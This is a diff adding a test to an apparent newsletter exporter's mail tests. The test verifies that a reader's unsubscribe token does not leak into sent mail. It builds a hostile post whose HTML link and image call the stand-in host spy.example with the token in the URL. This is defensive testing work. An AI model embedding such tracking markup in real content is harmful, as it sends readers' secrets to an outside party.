@@ -21,6 +21,7 @@ from exporter.errors import ExportError, UsageError
 from exporter.mail.ledger import Ledger, LedgerError
 from exporter.mail.letter import LetterError, Mould, token_for
 from exporter.mail.mailing import UnseenError
+from exporter.model.letter import TOKEN
 from tests.backends.newsletter.samples import bind, post
 from tests.mail.letters import SECRET, TOLD, config, eml, lay_out, letter, readers
 from tests.mail.server import Keeping, port_of, serve, taken
@@ -105,6 +106,20 @@ def test_each_reader_gets_their_own_mail(site: Path, server: Keeping) -> None:
         assert mail.isascii()
         assert max(map(len, mail.split(b"\r\n"))) <= 998
         assert not message_from_bytes(mail, policy=policy.default).defects
+
+
+def test_no_post_is_sent_a_readers_token(site: Path, server: Keeping) -> None:
+    """Who has it can take the reader off the list."""
+    spy = f'<p>{TOKEN}</p><p><a href="https://spy.example/{TOKEN}">x</a><img src="https://spy.example/?{TOKEN}" alt=""/></p>'
+    hostile = bind(post(TOKEN, body=spy, title=f"A title with {TOKEN}"), options=TOLD)
+    lay_out(site / "dist", main=eml(hostile))
+    run(site, yes=True)
+    token = token_for(SECRET, "letter.example.org", "reader3@example.net")
+    message = message_from_bytes(server.mails[3], policy=policy.default)
+    for kind in ("plain", "html"):
+        said = message.get_body((kind,)).get_content()  # type: ignore[union-attr]
+        assert "A title with READERS-TOKEN" in said
+        assert said.count(token) == said.count(f"https://example.org/out/{token}") >= 1
 
 
 def test_mails_are_dated_when_they_were_shown(site: Path, server: Keeping) -> None:
